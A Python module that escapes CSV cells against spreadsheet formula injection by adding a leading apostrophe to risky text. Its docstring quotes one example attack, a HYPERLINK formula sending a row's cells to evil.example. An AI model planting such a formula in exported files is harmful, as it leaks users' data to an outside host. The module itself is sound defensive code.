"""Cells of the CSV files Laurel writes, safe to open in a spreadsheet.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return before one) as a formula: ``=HYPERLINK("https://evil.example/?x="&C2, …)`` in
an email column sends the row's other cells away when clicked. Such text is written with a
leading apostrophe, which spreadsheets show as text and do not display (OWASP, "CSV
Injection"). Numbers are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that a spreadsheet would run as a formula (also after
    leading spaces) gets a leading apostrophe; numbers, booleans and None are left alone."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def cells(values: Iterable[Any]) -> list[Any]:
    """A row of ``cell``s."""
    return [cell(value) for value in values]


def record(row: Mapping[str, Any]) -> dict[str, Any]:
    """A ``csv.DictWriter`` row of ``cell``s."""
    return {name: cell(value) for name, value in row.items()}
